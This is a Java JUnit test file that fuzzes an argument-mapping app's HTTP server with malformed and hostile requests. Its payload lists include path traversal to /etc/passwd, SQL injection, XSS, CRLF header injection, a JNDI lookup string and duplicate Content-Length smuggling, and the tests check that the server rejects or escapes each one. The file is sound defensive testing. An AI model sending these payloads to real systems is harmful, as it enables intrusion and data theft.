package counterpoint.http;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import counterpoint.app.Samples;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Matcher;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Requests as nobody should send them. The server says no, in words, and goes on; it never blames itself. */
final class HostileTest {
    private static final int REQUESTS = Integer.getInteger("hostile.requests", 1_500);
    private static final long SEED = Long.getLong("seed", 20_261_123);
    private static final String SCRIPT = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>";

    private static final List<String> NASTY = List.of(
            "",
            " ",
            "\u0000",
            "%00",
            "..",
            "../../../../etc/passwd",
            "..%2f..%2fetc%2fpasswd",
            "%2e%2e/",
            "' OR 1=1 --",
            "\"; DROP TABLE maps; --",
            SCRIPT,
            "\r\nX-Injected: yes",
            "%0d%0aX-Injected:%20yes",
            "-1",
            "99999999999999999999",
            "1e309",
            "NaN",
            "null",
            "true",
            "{}",
            "[]",
            "\ud800",
            "\ud83d\ude00",
            "a".repeat(5_000),
            "{{7*7}}",
            "${jndi:ldap://x.example/a}",
            "\u202e");

    /** What any route may answer, by the description's own words: none of them blames the server. */
    private static final Set<Integer> ANYWHERE = Set.of(400, 404, 405, 414);

    @TempDir
    Path folder;

    private Browsing browsing;

    @BeforeEach
    void start() {
        browsing = new Browsing(folder);
        browsing.workspace().importMap().run(Samples.file(), "trams.json");
    }

    @AfterEach
    void stop() {
        browsing.close();
    }

    /** The status of the answer to these bytes, or 0 if there was none. */
    private int send(byte[] request) throws IOException {
        try (Socket socket =
                new Socket(InetAddress.getLoopbackAddress(), browsing.address().getPort())) {
            socket.setSoTimeout(10_000);
            socket.getOutputStream().write(request);
            socket.getOutputStream().flush();
            return status(socket.getInputStream());
        }
    }

    private static int status(InputStream in) throws IOException {
        byte[] line = new byte[12];
        try {
            int read = in.readNBytes(line, 0, line.length);
            return read < line.length ? 0 : Integer.parseInt(new String(line, 9, 3, StandardCharsets.US_ASCII));
        } catch (SocketTimeoutException late) {
            return 0;
        }
    }

    private static byte[] request(String method, String target, String headers, byte[] body) {
        byte[] head = (method + " " + target + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + headers
                        + "Content-Length: " + body.length + "\r\n\r\n")
                .getBytes(StandardCharsets.UTF_8);
        byte[] all = new byte[head.length + body.length];
        System.arraycopy(head, 0, all, 0, head.length);
        System.arraycopy(body, 0, all, head.length, body.length);
        return all;
    }

    @Test
    void neverBlamesItself_whateverIsSent() throws Exception {
        List<Described> operations =
                Described.all(browsing.get("/api/openapi.json").body());
        Random random = new Random(SEED);
        Set<String> faults = new TreeSet<>();
        Set<Integer> statuses = new TreeSet<>();
        for (int i = 0; i < REQUESTS; i++) {
            Described operation = operations.get(random.nextInt(operations.size()));
            byte[] request = mutated(operation, random);
            int status = send(request);
            statuses.add(status);
            if (!operation.statuses().contains(status) && !ANYWHERE.contains(status)) {
                String shown = new String(request, StandardCharsets.UTF_8);
                faults.add(status + " for " + shown.substring(0, Math.min(shown.length(), 300)));
            }
        }

        assertThat(faults).as("seed " + SEED).isEmpty();
        assertThat(statuses).contains(200, 400, 404, 415);
        assertThat(browsing.workspace().keepSafe().verify()).isEmpty();
    }

    private static byte[] mutated(Described operation, Random random) {
        String target = operation.address();
        StringBuilder headers = new StringBuilder();
        for (JsonNode parameter : operation.parameters()) {
            String name = parameter.path("name").asText();
            String value = random.nextInt(3) == 0
                    ? nasty(random)
                    : parameter.path("example").asText("7");
            switch (parameter.path("in").asText()) {
                case "path" ->
                    target = random.nextInt(3) == 0
                            ? operation
                                    .path()
                                    .replace("{" + name + "}", encoded(value))
                                    .replaceAll("\\{\\w+}", "p1")
                            : target;
                case "query" -> target += (target.contains("?") ? "&" : "?") + name + "=" + encoded(value);
                default ->
                    headers.append(name)
                            .append(": ")
                            .append(value.replaceAll("[\\r\\n\\x00]", ""))
                            .append("\r\n");
            }
        }
        String type = random.nextInt(10) == 0 ? "text/plain" : operation.contentType();
        if (!type.isEmpty()) {
            headers.append("Content-Type: ").append(type).append("\r\n");
        }
        String method = random.nextInt(25) == 0 ? "PATCH" : operation.method();
        return request(method, target, headers.toString(), body(operation, random));
    }

    private static byte[] body(Described operation, Random random) {
        String body = operation.body();
        int kind = random.nextInt(8);
        if (kind == 0) {
            body = "[".repeat(2_000);
        } else if (kind == 1 && !body.isEmpty()) {
            body = body.substring(0, random.nextInt(body.length()));
        } else if (kind == 2) {
            String text = "\"" + nasty(random).replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
            body = body.replaceFirst("\"[^\"]*\"(?=[,}\\]])", Matcher.quoteReplacement(text));
        } else if (kind == 3) {
            body = body.replaceFirst("\\d+", nasty(random).replaceAll("[\\\\$]", ""));
        } else if (kind == 4) {
            body = nasty(random);
        }
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        if (kind == 5 && bytes.length > 0) {
            bytes[random.nextInt(bytes.length)] = (byte) random.nextInt(256);
        }
        return bytes;
    }

    private static String nasty(Random random) {
        return NASTY.get(random.nextInt(NASTY.size()));
    }

    private static String encoded(String value) {
        StringBuilder encoded = new StringBuilder();
        for (byte b : value.getBytes(StandardCharsets.UTF_8)) {
            boolean isPlain = b > ' ' && b < 127 && "\"<>\\^`{|}#?&".indexOf(b) < 0;
            encoded.append(isPlain ? String.valueOf((char) b) : String.format("%%%02X", b));
        }
        return encoded.toString();
    }

    /** All of the answer to these bytes. */
    private String answer(byte[] request) throws IOException {
        try (Socket socket =
                new Socket(InetAddress.getLoopbackAddress(), browsing.address().getPort())) {
            socket.setSoTimeout(10_000);
            socket.getOutputStream().write(request);
            socket.getOutputStream().flush();
            socket.shutdownOutput();
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    400 | GET /%zz HTTP/1.1~Host: localhost
                    400 | GET / HTTP/1.1
                    400 | GET /api/maps/..%00 HTTP/1.1~Host: localhost
                    400 | <script>alert(1)</script>
                    400 | POST /api/maps HTTP/1.1~Host: localhost~Content-Length: -5
                    400 | GET /health HTTP/1.1~Host: localhost~Host: evil.example
                    400 | POST /api/maps HTTP/1.1~Host: localhost~Content-Length: 2~Content-Length: 3
                    414 | GET /api/maps?q=LONG HTTP/1.1~Host: localhost
                    431 | GET /api/maps HTTP/1.1~Host: localhost~X: LONG
                    """)
    void answersAProblemThatGivesNothingAway_whenARequestIsNoHttp(int status, String request) throws Exception {
        String sent = request.replace("~", "\r\n").replace("LONG", "a".repeat(9_000)) + "\r\n\r\n";

        String answer = answer(sent.getBytes(StandardCharsets.UTF_8));

        assertThat(answer)
                .startsWith("HTTP/1.1 " + status + " ")
                .contains("Content-Type: application/problem+json", "\"code\":\"http." + status + "\"")
                .doesNotContain("evil.example", "<script", "aaaa", "jetty", "Jetty", "java");
    }

    @Test
    void addsNoHeader_whenOneIsHiddenInWhatIsSent() throws Exception {
        String hidden = "x%0d%0aX-Injected:%20yes";
        String json = "Content-Type: application/json\r\nX-Counterpoint-Client: a\rX-Injected: yes\r\n";
        byte[] title = new ObjectMapper()
                .createObjectNode()
                .put("title", "x\r\nX-Injected: yes")
                .toString()
                .getBytes(StandardCharsets.UTF_8);
        List<String> answers = List.of(
                answer(request("GET", "/api/maps/" + hidden + "/export.json", "", new byte[0])),
                answer(request("GET", "/api/maps/trams/export?format=" + hidden, "", new byte[0])),
                answer(request("POST", "/api/maps/import?name=" + hidden, "Content-Type: text/plain\r\n", title)),
                answer(request("GET", "/" + hidden, "", new byte[0])),
                answer(request("POST", "/api/maps", json, title)),
                answer(request("POST", "/api/maps", "Content-Type: application/json\r\n", title)));

        assertThat(answers).noneMatch(answer -> answer.contains("\nX-Injected") || answer.contains("\rX-Injected"));
        assertThat(answers.get(5)).startsWith("HTTP/1.1 201").contains("Location: /api/maps/x-x-injected-yes");
    }

    @Test
    void servesNoFileOfTheMachine_whenAPathClimbs() throws Exception {
        List<String> paths = new ArrayList<>(List.of(
                "/../../etc/passwd",
                "/..%2f..%2fetc/passwd",
                "/%2e%2e/%2e%2e/etc/passwd",
                "/style/../../etc/passwd",
                "/....//etc/passwd",
                "/..;/etc/passwd",
                "/web/..%5c..%5cetc",
                "/index.html%00.js"));
        for (String path : paths) {
            assertThat(send(request("GET", path, "", new byte[0]))).as(path).isIn(400, 404);
        }
    }

    /** A map with script in every text that a person can write. */
    private static final String SCRIPTED = """
            {"expectedRevision": 3, "intent": "SCRIPT", "diff": {"added": [
              {"type": "proposition", "id": "h1", "text": "SCRIPT"},
              {"type": "question", "id": "h2", "text": "SCRIPT"},
              {"type": "speaker", "id": "h3", "name": "SCRIPT", "role": "commenter"},
              {"type": "inference", "id": "h4", "premises": ["h1"], "conclusion": "p1", "scheme": "SCRIPT"},
              {"type": "conflict", "id": "h5", "attacker": "h1", "target": "p2", "scheme": "SCRIPT"},
              {"type": "source", "id": "h6", "title": "SCRIPT", "hash": "sha256:%064d", "length": 9, "url": "https://a.example/?SCRIPT"},
              {"type": "extension", "id": "h7", "about": "h1", "name": "test:x", "value": "SCRIPT"},
              {"type": "proposal", "id": "h8", "proposer": "SCRIPT", "reason": "SCRIPT", "confidence": 1,
               "status": "pending", "evidence": [{"source": "s1", "start": 0, "end": 5}],
               "diff": {"added": [{"type": "proposition", "id": "h9", "text": "SCRIPT"}]}}]}}""";

    @Test
    void givesScriptBackAsData_whereverItWasPutIn() throws Exception {
        ObjectMapper json = new ObjectMapper();
        String quoted = json.writeValueAsString(SCRIPT);
        browsing.post(
                "/api/maps",
                json.createObjectNode().put("title", SCRIPT).toString(),
                "Content-Type",
                "application/json");
        var stored = browsing.post(
                "/api/maps/trams/operations",
                SCRIPTED.formatted(7).replace("SCRIPT", quoted.substring(1, quoted.length() - 1)),
                "Content-Type",
                "application/json");
        assertThat(stored.statusCode()).as(stored.body()).isEqualTo(200);
        var drafted = browsing.post(
                "/api/maps/import?name=" + encoded(SCRIPT) + ".txt",
                SCRIPT + "\n\n" + SCRIPT + " Ada: " + SCRIPT + "\n\nComments\n\nBo " + SCRIPT + "\n" + SCRIPT + "\n",
                "Content-Type",
                "text/plain");
        assertThat(drafted.statusCode()).as(drafted.body()).isEqualTo(201);
        String page = json.readTree(drafted.body()).path("id").asText();

        for (Described operation :
                Described.all(browsing.get("/api/openapi.json").body())) {
            if (operation.method().equals("GET") && !operation.path().endsWith("/events")) {
                assertHarmless(browsing.get(operation.address()), operation.address());
                String other = operation.address().replace("/trams", "/" + page);
                assertHarmless(browsing.get(other), other);
            }
        }
        for (String path : List.of("/api/nothing/%3Cscript%3E", "/api/maps/%3Cscript%3E", "/%3Cscript%3E.html")) {
            assertHarmless(browsing.get(path), path);
        }
    }

    /** Pages of HTML and drawings are escaped; all else says what it is, and that nobody should guess. */
    private static void assertHarmless(HttpResponse<String> response, String path) {
        String type = response.headers().firstValue("Content-Type").orElse("");
        if (type.contains("html") || type.contains("svg") || type.contains("xml")) {
            assertThat(response.body()).as(path).doesNotContain("<script>alert", "<img src=x");
        }
        assertThat(type).as(path).isNotEmpty();
        assertThat(response.headers().firstValue("X-Content-Type-Options"))
                .as(path)
                .contains("nosniff");
        assertThat(response.headers().firstValue("Content-Security-Policy").orElse(""))
                .as(path)
                .contains("default-src 'self'")
                .doesNotContain("unsafe-inline");
    }

    @Test
    void refuses_whenTheBodyIsTooLargeOrTooDeep() throws Exception {
        byte[] large = new byte[Server.LARGEST_BODY_MB * 1_000_000 + 10];
        String json = "Content-Type: application/json\r\n";

        assertThat(send(request("POST", "/api/maps/trams/operations", json, large)))
                .isEqualTo(413);
        assertThat(send(request("POST", "/api/maps/import?name=x.txt", "Content-Type: text/plain\r\n", large)))
                .isEqualTo(413);
        byte[] deep = "{\"a\":".repeat(5_000).getBytes(StandardCharsets.UTF_8);
        assertThat(send(request("POST", "/api/maps/trams/operations", json, deep)))
                .isEqualTo(400);
        assertThat(send(request("POST", "/api/maps", json, deep))).isEqualTo(400);
    }
}
